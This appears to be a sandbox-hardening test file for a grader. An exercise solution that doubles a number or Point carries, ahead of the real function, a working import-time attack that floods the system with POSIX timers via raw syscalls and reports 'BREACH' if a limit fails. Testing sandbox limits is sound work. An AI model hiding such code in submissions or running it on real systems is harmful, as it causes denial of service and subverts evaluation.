# /// attack
# kind = "harming"
# exercise = "ch1/double"
# verdicts = ["passed", "timeout", "crashed", "wrong"]
# reason = "Makes timers without end, and lets them all go off at once; a limit holds their number."
# ///
import ctypes
import os
import signal
import struct

from minisgl.shapes import Point

# timer_create, timer_settime
CREATE, SET = {"x86_64": (222, 223), "aarch64": (107, 110)}[os.uname().machine]


def look():
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0.000001, 0.000001)
    libc = ctypes.CDLL(None, use_errno=True)
    number, made = ctypes.c_int(), 0
    event = ctypes.create_string_buffer(struct.pack("qii", 0, signal.SIGALRM, 0), 64)
    every = ctypes.create_string_buffer(struct.pack("qqqq", 0, 1000, 0, 1000))
    while made < 20_000:
        if libc.syscall(ctypes.c_long(CREATE), ctypes.c_long(1), event, ctypes.byref(number)):
            break
        libc.syscall(ctypes.c_long(SET), ctypes.c_long(number.value), ctypes.c_long(0), every, None)
        made += 1
    if made > 2000:
        print("BREACH: timers", made)


look()


def double(value):
    if isinstance(value, Point):
        return Point(value.x * 2, value.y * 2)
    return value * 2
